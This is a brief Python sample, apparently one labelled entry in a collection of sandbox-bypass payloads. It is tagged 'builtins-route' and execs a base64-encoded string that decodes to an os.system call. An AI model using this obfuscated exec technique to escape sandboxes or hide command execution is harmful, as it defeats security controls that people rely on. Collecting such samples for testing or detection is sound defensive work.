# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (exec(__import__('base64').b64decode(...)))
# Family: builtins-route
# What: base64-encoded payload decoded and exec'd
import base64
exec(base64.b64decode("X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk="))
